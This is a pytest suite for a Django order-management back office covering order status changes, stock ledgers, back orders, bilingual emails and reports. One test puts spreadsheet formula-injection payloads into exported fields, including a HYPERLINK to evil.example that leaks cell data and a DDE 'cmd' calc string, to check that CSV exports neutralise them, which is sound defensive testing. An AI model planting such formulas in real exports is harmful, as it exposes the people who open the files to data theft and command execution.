"""The order team's side: status changes, stock and its ledger, staff screens, emails that survive outages, reports."""

import codecs
import csv
import io
import smtplib
from datetime import date

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.mail.backends.base import BaseEmailBackend
from django.core.management import call_command
from django.db.models import Sum
from django.urls import reverse
from django.utils import translation
from wagtail.models import Page
from wagtail.users.models import UserProfile

from resources import reports
from resources.models import Agency, Order, OrderEvent, OutgoingEmail, RestockRequest, StockItem, StockMovement
from resources.services import pieces_ordered_this_period
from resources.stock import move_stock
from resources.workflow import TRANSITIONS, change_status
from tests.helpers import in_french, messages_on, place
from tests.resources.conftest import edition

pytestmark = pytest.mark.django_db
Status = Order.Status


class FailingEmailBackend(BaseEmailBackend):
    """The mail server is down."""

    def send_messages(self, email_messages):
        raise smtplib.SMTPServerDisconnected("Connection unexpectedly closed")


def stock(sku):
    return StockItem.objects.get(sku=sku)


@pytest.fixture
def manager(shop):
    user = get_user_model().objects.create_user("manager@northbridge.example", password="x-long-password-9")
    user.groups.add(Group.objects.get(name="Order managers"))
    return user


@pytest.fixture
def manager_client(client, manager):
    client.force_login(manager)
    return client


def test_every_status_has_its_allowed_changes_declared():
    assert set(TRANSITIONS) == set(Status)
    assert TRANSITIONS[Status.SHIPPED] == {Status.DELIVERED}
    assert all(not TRANSITIONS[status] for status in (Status.DELIVERED, Status.CANCELLED, Status.DECLINED))


@pytest.mark.parametrize(
    ("start", "target"),
    [(Status.APPROVED, Status.DELIVERED), (Status.APPROVED, Status.SHIPPED), (Status.NEEDS_REVIEW, Status.PACKING)],
)
def test_a_change_that_is_not_declared_is_refused_and_changes_nothing(shop, manager, start, target):
    order = place(shop.officer, [("NB-GAM-PO-EN", 120 if start == Status.NEEDS_REVIEW else 20)])
    assert order.status == start
    with pytest.raises(ValidationError, match="cannot become"):
        change_status(order, target, manager, carrier="Canada Post", tracking="123")
    order.refresh_from_db()
    assert order.status == start
    assert order.events.count() == 1


def test_every_change_is_recorded_with_who_when_from_to_and_note(shop, manager):
    order = place(shop.officer, [("NB-GAM-PO-EN", 20)])
    change_status(order, Status.PACKING, manager, note="Box 4")
    events = list(order.events.values_list("from_status", "to_status", "by__username", "note"))
    assert events == [("", "approved", shop.officer.username, ""), ("approved", "packing", manager.username, "Box 4")]


def test_approving_in_part_releases_the_pieces_no_longer_needed(shop, manager):
    order = place(shop.officer, [("NB-GAM-PO-EN", 120)])
    line = order.lines.get()
    assert (order.status, line.reserved, stock("NB-GAM-PO-EN").reserved) == (Status.NEEDS_REVIEW, 120, 120)
    change_status(order, Status.APPROVED, manager, quantities={line.pk: 50})
    line.refresh_from_db()
    assert (line.requested, line.quantity, line.reserved, line.reduced) == (120, 50, 50, 70)
    assert stock("NB-GAM-PO-EN").reserved == 50


def test_approving_more_than_requested_is_refused(shop, manager):
    """Refused as a whole: the line approved before the bad one keeps its pieces too."""
    order = place(shop.officer, [("NB-SXT-BR-EN", 100), ("NB-GAM-PO-EN", 120)])
    brochure, poster = order.lines.order_by("pk")

    def state():
        order.refresh_from_db()
        lines = list(order.lines.order_by("pk").values_list("requested", "quantity", "reserved"))
        held = [stock(sku).reserved for sku in ("NB-SXT-BR-EN", "NB-GAM-PO-EN")]
        return order.status, order.version, order.events.count(), lines, held

    before = state()
    assert before[0] == Status.NEEDS_REVIEW
    with pytest.raises(ValidationError, match="between 0 and 120"):
        change_status(order, Status.APPROVED, manager, quantities={brochure.pk: 40, poster.pk: 500})
    assert state() == before


@pytest.mark.parametrize("target", [Status.CANCELLED, Status.DECLINED])
def test_cancelling_or_declining_releases_every_reservation(shop, manager, target):
    order = place(shop.officer, [("NB-GAM-PO-EN", 120), ("NB-SXT-BR-EN", 100)])
    change_status(order, target, manager, note="Duplicate of an earlier order")
    assert stock("NB-GAM-PO-EN").reserved == stock("NB-SXT-BR-EN").reserved == 0
    assert list(order.lines.values_list("reserved", flat=True)) == [0, 0]


@pytest.mark.parametrize("target", [Status.CANCELLED, Status.DECLINED])
def test_cancelling_or_declining_without_ticking_the_confirmation_changes_nothing(
    shop, manager, manager_client, target
):
    order = place(shop.officer, [("NB-GAM-PO-EN", 120)])
    in_french(manager)
    url = reverse("resources_order_detail", args=[order.pk])
    response = manager_client.post(url, {"version": order.version, "to_status": target}, follow=True)
    assert "Cochez la case pour confirmer" in " ".join(messages_on(response))
    order.refresh_from_db()
    assert (order.status, stock("NB-GAM-PO-EN").reserved) == (Status.NEEDS_REVIEW, 120)
    response = manager_client.post(url, {"version": order.version, "to_status": target, "confirm": "1"}, follow=True)
    order.refresh_from_db()
    assert (order.status, stock("NB-GAM-PO-EN").reserved) == (target, 0)


def test_shipping_takes_reserved_pieces_out_with_a_ledger_line_and_tracking(shop, manager):
    order = place(shop.officer, [("NB-GAM-PO-EN", 40)])
    change_status(order, Status.PACKING, manager)
    with pytest.raises(ValidationError, match="carrier and the tracking number"):
        change_status(order, Status.SHIPPED, manager)
    change_status(order, Status.SHIPPED, manager, carrier="Canada Post", tracking="7301 2026 0001")
    item = stock("NB-GAM-PO-EN")
    assert (item.on_hand, item.reserved) == (460, 0)
    assert item.on_hand == item.movements.aggregate(total=Sum("quantity"))["total"]
    shipped = item.movements.get(reason="shipped")
    assert (shipped.quantity, shipped.order_id, shipped.created_by_id) == (-40, order.pk, manager.pk)
    order.refresh_from_db()
    assert (order.carrier, order.tracking_number, order.lines.get().shipped) == ("Canada Post", "7301 2026 0001", 40)


def ship_now(order, manager):
    change_status(order, Status.PACKING, manager)
    return change_status(order, Status.SHIPPED, manager, carrier="Canada Post", tracking="7301 2026 0002")


def test_shipping_what_is_in_stock_moves_the_back_ordered_pieces_to_a_follow_up_order(shop, manager):
    order = place(shop.officer, [("NB-SXT-BR-EN", 300), ("NB-HLP-CA-BI", 400)])
    ordered_this_quarter = pieces_ordered_this_period(shop.agency, 3)
    ship_now(order, manager)

    follow_up = order.follow_ups.get()
    assert follow_up.status == Status.APPROVED
    assert follow_up.created_at == order.created_at  # keeps its place in line for received stock
    assert follow_up.number == f"PR-{order.created_at.year}-{follow_up.pk:06d}"
    assert [(line.stock_item.sku, line.quantity, line.reserved) for line in follow_up.lines.all()] == [
        ("NB-HLP-CA-BI", 400, 0)
    ]
    assert follow_up.ship_to_lines == Order.objects.get(pk=order.pk).ship_to_lines
    assert follow_up.events.get().note == f"The back-ordered pieces of order {order.number}."
    assert pieces_ordered_this_period(shop.agency, 3) == ordered_this_quarter

    move_stock(stock("NB-HLP-CA-BI"), 500, "received", manager, "Reprint")
    assert follow_up.lines.get().reserved == 400


def test_pieces_a_cancelled_order_releases_go_to_the_oldest_back_order_at_once(shop, manager):
    move_stock(stock("NB-HLP-CA-BI"), 300, "received", manager, "Reprint")
    first = place(shop.officer, [("NB-HLP-CA-BI", 300)])
    waiting = place(shop.other_officer, [("NB-HLP-CA-BI", 200)])
    assert waiting.lines.get().reserved == 0
    change_status(first, Status.CANCELLED, manager, note="Ordered twice by mistake")
    assert first.lines.get().reserved == 0
    assert waiting.lines.get().reserved == 200
    assert (stock("NB-HLP-CA-BI").on_hand, stock("NB-HLP-CA-BI").reserved) == (300, 200)


def test_an_order_with_nothing_in_stock_cannot_ship(shop, manager):
    order = place(shop.officer, [("NB-HLP-CA-BI", 300)])
    change_status(order, Status.PACKING, manager)
    with pytest.raises(ValidationError, match="is in stock yet"):
        change_status(order, Status.SHIPPED, manager, carrier="Canada Post", tracking="7301 2026 0003")
    assert Order.objects.get(pk=order.pk).status == Status.PACKING
    assert not Order.objects.filter(follow_up_of=order).exists()


def test_the_officer_sees_where_back_ordered_pieces_went_and_gets_told_in_the_shipped_email(
    shop, manager, officer_client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        order = place(shop.officer, [("NB-SXT-BR-EN", 300), ("NB-HLP-CA-BI", 400)])
        ship_now(order, manager)
    follow_up = order.follow_ups.get()
    shipped = mail.outbox[-1]
    assert f"The pieces that were back-ordered follow in order {follow_up.number}" in shipped.body
    assert "Resource number 1 (English): 300" in shipped.body
    assert "Resource number 3" not in shipped.body  # nothing of it left the warehouse

    page = officer_client.get(reverse("resources:order", args=[order.number])).content.decode()
    assert f"400 pieces: they follow in order {follow_up.number}" in page
    assert "when stock arrives" not in page
    page = officer_client.get(reverse("resources:order", args=[follow_up.number])).content.decode()
    assert f'These are the back-ordered pieces of order <a href="/en/agency/orders/{order.number}/">' in page
    assert "400 pieces: we ship them when stock arrives" in page


def test_a_cancelled_order_promises_no_back_ordered_pieces(shop, manager, officer_client):
    order = place(shop.officer, [("NB-HLP-CA-BI", 300)])
    change_status(order, Status.CANCELLED, manager, note="Duplicate")
    page = officer_client.get(reverse("resources:order", args=[order.number])).content.decode()
    assert "when stock arrives" not in page
    assert "follow in order" not in page


def test_two_staff_acting_on_one_order_cannot_both_succeed(shop, manager_client, manager):
    order = place(shop.officer, [("NB-GAM-PO-EN", 120)])
    url = reverse("resources_order_detail", args=[order.pk])
    seen = {"version": order.version}
    first = manager_client.post(url, {**seen, "to_status": "approved"}, follow=True)
    decline = {**seen, "to_status": "declined", "confirm": "1", "note": "Too many"}
    second = manager_client.post(url, decline, follow=True)
    order.refresh_from_db()
    assert order.status == Status.APPROVED
    assert "is updated" in first.content.decode()
    assert "changed since you opened it. Reload it and try again." in second.content.decode()
    assert order.events.count() == 2


def test_queue_puts_orders_under_review_first_then_the_oldest(shop, manager_client):
    first = place(shop.officer, [("NB-GAM-PO-EN", 10)])
    reviewed = place(shop.other_officer, [("NB-GAM-PO-EN", 120)])
    last = place(shop.officer, [("NB-GAM-PO-EN", 20)])
    page = BeautifulSoup(manager_client.get(reverse("resources_order_queue")).content, "html.parser")
    assert [row.th.get_text(strip=True) for row in page.select("tbody tr")] == [
        reviewed.number,
        first.number,
        last.number,
    ]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": "needs_review"}, ["lakeshore"]),
        ({"province": "BC"}, ["lakeshore"]),
        ({"sku": "NB-SXT-BR-EN"}, ["riverbend"]),
        ({"q": "Riverbend"}, ["riverbend"]),
        ({"placed_from": "2000-01-01", "placed_to": "2000-12-31"}, []),
        ({"status": "nonsense", "placed_from": "yesterday"}, ["lakeshore", "riverbend"]),
    ],
)
def test_queue_filters(shop, manager_client, params, expected):
    place(shop.officer, [("NB-SXT-BR-EN", 100)])
    place(shop.other_officer, [("NB-GAM-PO-EN", 120)])
    response = manager_client.get(reverse("resources_order_queue"), params)
    assert response.status_code == 200
    agencies = [
        row.find_all("td")[2].get_text().split()[0].lower()
        for row in BeautifulSoup(response.content, "html.parser").select("tbody tr")
        if row.th
    ]
    assert sorted(agencies) == expected


def test_bulk_actions_move_orders_and_report_the_ones_that_cannot_move(shop, manager_client):
    ready = place(shop.officer, [("NB-GAM-PO-EN", 10)])
    review = place(shop.other_officer, [("NB-GAM-PO-EN", 120)])
    response = manager_client.post(
        reverse("resources_bulk_action"), {"orders": [ready.pk, review.pk], "action": "packing"}, follow=True
    )
    ready.refresh_from_db()
    review.refresh_from_db()
    assert (ready.status, review.status) == (Status.PACKING, Status.NEEDS_REVIEW)
    assert f"{review.number}: An order that is “Needs review” cannot become “Packing”." in response.content.decode()
    manager_client.post(
        reverse("resources_bulk_action"),
        {"orders": [ready.pk], "action": "shipped", "carrier": "Purolator", "tracking": "MANIFEST-77"},
    )
    ready.refresh_from_db()
    assert (ready.status, ready.tracking_number) == (Status.SHIPPED, "MANIFEST-77")


@pytest.fixture
def packed(shop, manager):
    orders = [place(shop.officer, [("NB-GAM-PO-EN", 10)]), place(shop.other_officer, [("NB-GAM-PO-EN", 10)])]
    return [change_status(order, Status.PACKING, manager) for order in orders]


def bulk_ship(manager_client, orders, carrier="Purolator", tracking="MANIFEST-77"):
    return manager_client.post(
        reverse("resources_bulk_action"),
        {"orders": [order.pk for order in orders], "action": "shipped", "carrier": carrier, "tracking": tracking},
        follow=True,
    )


def test_bulk_actions_name_every_order_they_moved(packed, manager_client):
    response = bulk_ship(manager_client, packed)
    numbers = ", ".join(order.number for order in packed)
    assert f"2 order(s) are now “Shipped”: {numbers}." in messages_on(response)


def test_bulk_shipping_with_an_over_long_tracking_number_is_refused_before_any_order_changes(packed, manager_client):
    response = bulk_ship(manager_client, packed, tracking="7" * 81)
    assert response.status_code == 200
    assert messages_on(response) == [
        "Tracking or manifest number (for shipping): Ensure this value has at most 80 characters (it has 81)."
    ]
    assert [Order.objects.get(pk=order.pk).status for order in packed] == [Status.PACKING, Status.PACKING]


def test_bulk_shipping_refusals_are_in_the_staff_members_language(packed, manager, manager_client):
    profile = UserProfile.get_for_user(manager)
    profile.preferred_language = "fr"
    profile.save()
    response = bulk_ship(manager_client, packed, carrier="C" * 90)
    assert messages_on(response) == [
        "Transporteur (pour l’expédition)\u00a0: Assurez-vous que cette valeur comporte au plus 80 caractères "
        "(actuellement 90)."
    ]
    assert [Order.objects.get(pk=order.pk).status for order in packed] == [Status.PACKING, Status.PACKING]


def test_bulk_shipping_without_a_carrier_is_refused_once_before_any_order_changes(packed, manager_client):
    response = bulk_ship(manager_client, packed, carrier=" ")
    assert messages_on(response) == ["Enter the carrier and the tracking number."]
    assert [Order.objects.get(pk=order.pk).status for order in packed] == [Status.PACKING, Status.PACKING]


def test_shipping_one_order_with_an_over_long_carrier_is_refused_not_cut_short(packed, manager_client):
    order = packed[0]
    response = manager_client.post(
        reverse("resources_order_detail", args=[order.pk]),
        {"version": order.version, "to_status": "shipped", "carrier": "C" * 81, "tracking": "7301"},
        follow=True,
    )
    assert messages_on(response) == ["Carrier: Ensure this value has at most 80 characters (it has 81)."]
    order.refresh_from_db()
    assert (order.status, order.carrier) == (Status.PACKING, "")


def test_csv_exports_follow_the_filters(shop, manager_client):
    order = place(shop.officer, [("NB-SXT-BR-EN", 100), ("NB-SXT-BR-FR", 50)])
    place(shop.other_officer, [("NB-GAM-PO-EN", 120)])
    rows = exported_rows(manager_client, reverse("resources_order_queue"), {"province": "ON", "export": "orders"})
    assert rows[0][:3] == ["Order", "Placed", "Status"]
    assert [row[0] for row in rows[1:]] == [order.number]
    assert rows[1][5] == "150"
    line_rows = exported_rows(manager_client, reverse("resources_order_queue"), {"province": "ON", "export": "lines"})
    assert [(row[2], row[5]) for row in line_rows[1:]] == [("NB-SXT-BR-EN", "100"), ("NB-SXT-BR-FR", "50")]


def exported_rows(client, url, params):
    response = client.get(url, params)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    # The byte order mark is what makes Excel read the file as UTF-8.
    assert response.content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_csv_exports_write_what_users_and_editors_typed_as_text_never_as_a_formula(shop, manager, manager_client):
    Agency.objects.filter(pk=shop.agency.pk).update(name=FORMULA)
    shop.agency.addresses.update(label="@SUM(1+1)", line1="+1 Main Street")
    Page.objects.filter(pk=shop.poster.pk).update(title="-2+3 Poster")
    order = place(shop.officer, [("NB-GAM-PO-EN", 20)])
    change_status(order, Status.PACKING, manager)
    change_status(order, Status.SHIPPED, manager, carrier="=cmd|' /C calc'!A0", tracking="-1+1")
    queue = reverse("resources_order_queue")
    [_header, row] = exported_rows(manager_client, queue, {"status": "", "export": "orders"})
    assert row[3] == "'" + FORMULA
    assert row[6].startswith("'@SUM(1+1) / +1 Main Street")
    assert (row[5], row[7], row[8]) == ("20", "'=cmd|' /C calc'!A0", "'-1+1")
    [_header, line] = exported_rows(manager_client, queue, {"status": "", "export": "lines"})
    assert line[3] == "'-2+3 Poster"
    assert line[5:] == ["20", "20", "0", "20"]
    year = date.today().year
    report = exported_rows(
        manager_client,
        reverse("resources_distribution_report"),
        {"start": f"{year}-01-01", "end": f"{year}-12-31", "export": "csv"},
    )
    assert ["Resource", "'-2+3 Poster (NB-GAM-PO-EN)", "20"] in report


def test_csv_exports_keep_accented_names_and_use_status_labels_in_the_staff_users_language(
    shop, manager, manager_client
):
    Agency.objects.filter(pk=shop.agency.pk).update(name="Police de Rivière-des-Cèdres")
    order = place(shop.officer, [("NB-GAM-PO-EN", 120)])
    assert order.status == Status.NEEDS_REVIEW
    profile = UserProfile.get_for_user(manager)
    profile.preferred_language = "fr"
    profile.save()
    queue = reverse("resources_order_queue")
    [header, row] = exported_rows(manager_client, queue, {"export": "orders"})
    assert header[:3] == ["Commande", "Passée le", "État"]
    assert (row[2], row[3]) == ("À vérifier", "Police de Rivière-des-Cèdres")
    [header, line] = exported_rows(manager_client, queue, {"export": "lines"})
    assert header[5:] == ["Demandés", "Approuvés", "Réservés", "Expédiés"]  # pieces, not an order's status
    assert (line[1], line[4]) == ("À vérifier", "Anglais")


def test_packing_slip_has_the_shipping_address_and_lines_in_their_edition_language(shop, manager_client):
    order = place(shop.officer, [("NB-SXT-BR-FR", 50), ("NB-GAM-PO-EN", 10)])
    page = BeautifulSoup(
        manager_client.get(reverse("resources_packing_slips"), {"orders": [order.pk]}).content, "html.parser"
    )
    assert "100 Main Street" in page.select_one(".slip__to").get_text()
    titles = [(cell.get_text(), cell["lang"]) for cell in page.select("tbody td[lang]")]
    assert titles == [("Ressource numéro 1", "fr"), ("Resource number 2", "en")]


def test_on_hand_is_always_the_sum_of_the_ledger(shop, manager):
    order = place(shop.officer, [("NB-GAM-PO-EN", 40)])
    move_stock(stock("NB-GAM-PO-EN"), 200, "received", manager, "Printer delivery 88")
    move_stock(stock("NB-GAM-PO-EN"), -15, "adjustment", manager, "Water damage")
    change_status(order, Status.PACKING, manager)
    change_status(order, Status.SHIPPED, manager, carrier="Canada Post", tracking="1")
    for item in StockItem.objects.all():
        assert item.on_hand == (item.movements.aggregate(total=Sum("quantity"))["total"] or 0)
    assert stock("NB-GAM-PO-EN").on_hand == 500 + 200 - 15 - 40


def test_the_opening_stock_line_of_the_ledger_reads_in_the_staff_users_language(shop, manager, manager_client):
    item = stock("NB-GAM-PO-EN")
    StockMovement.objects.create(stock_item=item, quantity=10, reason=StockMovement.Reason.OPENING)
    in_french(manager)
    ledger = BeautifulSoup(
        manager_client.get(reverse("resources_stock_detail", args=[item.pk])).content, "html.parser"
    ).get_text(" ", strip=True)
    assert "Stock initial" in ledger
    assert "Opening" not in ledger


def test_stock_cannot_be_adjusted_below_what_orders_hold(shop, manager):
    place(shop.officer, [("NB-GAM-PO-EN", 50)])
    with pytest.raises(ValidationError, match="Only 450 pieces of NB-GAM-PO-EN are not reserved"):
        move_stock(stock("NB-GAM-PO-EN"), -460, "adjustment", manager, "Count")
    assert stock("NB-GAM-PO-EN").on_hand == 500


def test_received_stock_fills_back_orders_oldest_first(shop, manager):
    older = place(shop.officer, [("NB-HLP-CA-BI", 300)])
    newer = place(shop.other_officer, [("NB-HLP-CA-BI", 300)])
    move_stock(stock("NB-HLP-CA-BI"), 400, "received", manager, "Reprint")
    assert older.lines.get().reserved == 300
    assert newer.lines.get().reserved == 100
    assert stock("NB-HLP-CA-BI").reserved == 400


def test_receiving_stock_tells_staff_which_back_orders_it_filled_in_their_language(shop, manager, manager_client):
    older = place(shop.officer, [("NB-HLP-CA-BI", 300)])
    newer = place(shop.other_officer, [("NB-HLP-CA-BI", 300)])
    in_french(manager)
    response = manager_client.post(
        reverse("resources_stock_detail", args=[stock("NB-HLP-CA-BI").pk]),
        {"form": "move", "reason": "received", "quantity": 400, "note": "Réimpression"},
        follow=True,
    )
    filled = f"{older.number} (300\u00a0exemplaires), {newer.number} (100\u00a0exemplaires)"
    assert f"Réservé pour des commandes en attente\u00a0: {filled}." in messages_on(response)


def test_receiving_stock_with_nothing_back_ordered_says_only_that_stock_is_updated(shop, manager_client):
    response = manager_client.post(
        reverse("resources_stock_detail", args=[stock("NB-HLP-CA-BI").pk]),
        {"form": "move", "reason": "received", "quantity": 400, "note": "Reprint"},
        follow=True,
    )
    assert messages_on(response) == ["Stock of NB-HLP-CA-BI is updated."]


def test_low_stock_alerts_the_order_team_once_and_shows_in_the_admin(
    shop, manager_client, django_capture_on_commit_callbacks
):
    item = stock("NB-GAM-PO-EN")
    item.low_stock_threshold = 100
    item.save()
    with django_capture_on_commit_callbacks(execute=True):
        place(shop.officer, [("NB-GAM-PO-EN", 410)])
        place(shop.officer, [("NB-GAM-PO-EN", 10)])
    alerts = [message for message in mail.outbox if "NB-GAM-PO-EN" in message.subject]
    assert len(alerts) == 1
    assert alerts[0].subject == "Low stock: NB-GAM-PO-EN / Stock faible\u00a0: NB-GAM-PO-EN"
    assert "NB-GAM-PO-EN" in manager_client.get(reverse("resources_order_queue")).content.decode()


def test_stock_that_stays_low_after_a_receipt_does_not_alert_again_until_it_recovers_and_falls(
    shop, manager, django_capture_on_commit_callbacks
):
    item = stock("NB-GAM-PO-EN")
    item.low_stock_threshold = 100
    item.save()

    def alerts():
        return len([message for message in mail.outbox if "NB-GAM-PO-EN" in message.subject])

    with django_capture_on_commit_callbacks(execute=True):
        move_stock(item, -(item.available - 50), "adjustment", manager, "Count")
    assert alerts() == 1
    with django_capture_on_commit_callbacks(execute=True):
        move_stock(item, 20, "received", manager, "Returned by an agency")
    assert alerts() == 1
    with django_capture_on_commit_callbacks(execute=True):
        move_stock(item, 500, "received", manager, "Reprint")
        move_stock(item, -520, "adjustment", manager, "Damaged in the warehouse")
    assert alerts() == 2


def test_agencies_that_asked_are_emailed_when_stock_is_received(
    shop, officer_client, manager, django_capture_on_commit_callbacks
):
    card = edition(shop.card, "NB-HLP-CA-BI")
    officer_client.post(reverse("resources:notify_when_restocked"), {"edition": card.pk})
    assert RestockRequest.objects.filter(user=shop.officer, notified_at=None).count() == 1
    with django_capture_on_commit_callbacks(execute=True):
        move_stock(stock("NB-HLP-CA-BI"), 500, "received", manager, "Reprint")
    assert [message.subject for message in mail.outbox] == ["NB-HLP-CA-BI is back in stock"]
    assert RestockRequest.objects.filter(notified_at=None).count() == 0


def test_officer_gets_the_shipped_email_in_french_with_tracking(shop, manager, django_capture_on_commit_callbacks):
    member = shop.officer.agency_member
    member.language = "fr"
    member.save()
    with django_capture_on_commit_callbacks(execute=True):
        order = place(shop.officer, [("NB-SXT-BR-FR", 200)], language="fr")
        change_status(order, Status.PACKING, manager)
        change_status(order, Status.SHIPPED, manager, carrier="Postes Canada", tracking="7301 2026 0009")
    shipped = mail.outbox[-1]
    assert shipped.subject == f"La commande {order.number} a été expédiée"
    assert "par Postes Canada. Numéro de suivi\u00a0: 7301 2026 0009." in shipped.body
    assert "- Ressource numéro 1 (français)\u00a0: 200\n" in shipped.body
    assert "Ressource numéro 1 (français)</td>" in shipped.alternatives[0][0]


@pytest.mark.parametrize(
    ("typed", "language", "shown"), [("Canada Post", "fr", "Postes Canada"), ("Postes Canada", "en", "Canada Post")]
)
def test_the_carrier_is_named_in_the_officer_language_however_staff_typed_it(
    shop, manager, django_capture_on_commit_callbacks, typed, language, shown
):
    member = shop.officer.agency_member
    member.language = language
    member.save()
    with django_capture_on_commit_callbacks(execute=True):
        order = place(shop.officer, [("NB-SXT-BR-EN", 100)])
        change_status(order, Status.PACKING, manager)
        change_status(order, Status.SHIPPED, manager, carrier=typed, tracking="7301 2026 0010")
    shipped = mail.outbox[-1]
    assert shown in shipped.body
    assert typed not in shipped.body


def test_a_french_reader_sees_postes_canada_on_the_order_page_the_order_team_screen_and_the_csv(
    shop, manager, manager_client
):
    order = place(shop.officer, [("NB-GAM-PO-EN", 40)])
    change_status(order, Status.PACKING, manager)
    change_status(order, Status.SHIPPED, manager, carrier="Canada Post", tracking="7301")
    in_french(manager)
    detail = BeautifulSoup(
        manager_client.get(reverse("resources_order_detail", args=[order.pk])).content, "html.parser"
    ).get_text(" ", strip=True)
    assert "Postes Canada, 7301" in detail
    assert "Demandés Approuvés Réservés En attente de stock Expédiés" in detail
    [_header, row] = exported_rows(
        manager_client, reverse("resources_order_queue"), {"export": "orders", "status": "shipped"}
    )
    assert row[-2:] == ["Postes Canada", "7301"]
    manager_client.force_login(shop.officer)
    with translation.override("fr"):
        officer_page = manager_client.get(reverse("resources:order", args=[order.number]))
    shipping = BeautifulSoup(officer_page.content, "html.parser").select_one(".facts--shipping").get_text(" ")
    assert "Postes Canada" in shipping
    assert "Canada Post" not in shipping


def test_review_reasons_reach_a_french_officer_in_french_though_the_order_was_placed_in_english(
    shop, django_capture_on_commit_callbacks
):
    member = shop.officer.agency_member
    member.language = "fr"
    member.save()
    with django_capture_on_commit_callbacks(execute=True):
        order = place(shop.officer, [("NB-GAM-PO-EN", 120)], language="en")
    assert order.status == Status.NEEDS_REVIEW
    email = mail.outbox[-1]
    reason = (
        "Resource number 2 (NB-GAM-PO-EN)\u00a0: 120\u00a0exemplaires demandés\u00a0; "
        "le maximum par commande est de 50."
    )
    assert f"- {reason}\n" in email.body
    assert f"<li>{reason}</li>" in email.alternatives[0][0]
    assert "pieces requested" not in email.body


def test_a_mail_outage_never_blocks_or_loses_an_order_and_emails_go_out_once_it_recovers(
    shop, manager, settings, django_capture_on_commit_callbacks
):
    settings.EMAIL_BACKEND = "tests.resources.test_back_office.FailingEmailBackend"
    with django_capture_on_commit_callbacks(execute=True):
        order = place(shop.officer, [("NB-GAM-PO-EN", 120)])
        for status in (Status.APPROVED, Status.PACKING, Status.SHIPPED, Status.DELIVERED):
            order = change_status(order, status, manager, carrier="Canada Post", tracking="42")
    assert order.status == Status.DELIVERED
    pending = OutgoingEmail.objects.filter(sent_at=None)
    assert pending.count() == 4  # received, needs review, approved, shipped
    assert all(email.attempts == 1 and "SMTPServerDisconnected" in email.last_error for email in pending)
    assert mail.outbox == []

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    call_command("send_pending_emails", stdout=io.StringIO())
    call_command("send_pending_emails", stdout=io.StringIO())
    assert sorted(message.subject for message in mail.outbox) == sorted(
        [
            f"We received order {order.number}",
            f"Order {order.number} will be reviewed by our team",
            f"Order {order.number} is approved",
            f"Order {order.number} has shipped",
        ]
    )
    assert not OutgoingEmail.objects.filter(sent_at=None).exists()


def test_distribution_report_matches_the_ledger(shop, manager, manager_client):
    for officer, lines in [
        (shop.officer, [("NB-SXT-BR-EN", 100), ("NB-SXT-BR-FR", 50)]),
        (shop.other_officer, [("NB-GAM-PO-EN", 30)]),
        (shop.officer, [("NB-GAM-PO-EN", 20)]),
    ]:
        order = place(officer, lines)
        change_status(order, Status.PACKING, manager)
        change_status(order, Status.SHIPPED, manager, carrier="Canada Post", tracking="1")
    place(shop.officer, [("NB-SXT-BR-EN", 500)])  # not shipped: not counted
    today = date.today()
    report = reports.distribution(date(today.year, 1, 1), date(today.year, 12, 31))
    assert report.total == report.year_total == 200
    assert dict(report.by_province) == {"Ontario": 170, "British Columbia": 30}
    assert dict(report.by_edition) == {"English": 150, "French": 50}
    assert dict(report.by_resource) == {
        "Resource number 1 (NB-SXT-BR-EN)": 100,
        "Resource number 2 (NB-GAM-PO-EN)": 50,
        "Resource number 1 (NB-SXT-BR-FR)": 50,
    }
    assert sum(count for _month, count in report.by_month) == 200
    page = manager_client.get(reverse("resources_distribution_report"))
    assert "200 pieces shipped in" in page.content.decode()
    assert "<svg" in page.content.decode()
    exported = manager_client.get(
        reverse("resources_distribution_report"),
        {"start": f"{today.year}-01-01", "end": f"{today.year}-12-31", "export": "csv"},
    )
    rows = list(csv.reader(io.StringIO(exported.content.decode())))
    assert ["Province or territory", "Ontario", "170"] in rows


def test_the_report_refuses_a_period_that_ends_before_it_starts(manager_client):
    response = manager_client.get(
        reverse("resources_distribution_report"), {"start": "2026-12-01", "end": "2026-01-01"}
    )
    assert response.status_code == 200
    assert "must be before its end" in response.content.decode()


@pytest.mark.parametrize(
    "url",
    ["resources_order_queue", "resources_stock_list", "resources_distribution_report", "resources_packing_slips"],
)
def test_editors_without_the_order_managers_group_see_none_of_it(client, shop, url):
    editor = get_user_model().objects.create_user("editor@northbridge.example", password="x-long-password-9")
    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(editor)
    assert client.get(reverse(url)).status_code in {302, 403}
    assert "Print orders" not in client.get("/admin/").content.decode()


def test_order_managers_see_the_menu(manager_client):
    assert "Print orders" in manager_client.get("/admin/").content.decode()


def test_order_events_are_only_written_through_status_changes(shop, manager):
    """Placing writes the first event and each status change one more; a refused change or a save writes none."""
    order = place(shop.officer, [("NB-GAM-PO-EN", 10)])

    def events():
        return list(OrderEvent.objects.filter(order=order).values_list("from_status", "to_status", "by"))

    placed = [("", Status.APPROVED, shop.officer.pk)]
    assert events() == placed
    with pytest.raises(ValidationError, match="cannot become"):
        change_status(order, Status.DELIVERED, manager)
    order.refresh_from_db()
    order.save()
    assert events() == placed
    change_status(order, Status.PACKING, manager)
    order = change_status(order, Status.SHIPPED, manager, carrier="Canada Post", tracking="7301 2026 0002")
    assert events() == placed + [
        (Status.APPROVED, Status.PACKING, manager.pk),
        (Status.PACKING, Status.SHIPPED, manager.pk),
    ]
    assert events()[-1][1] == order.status
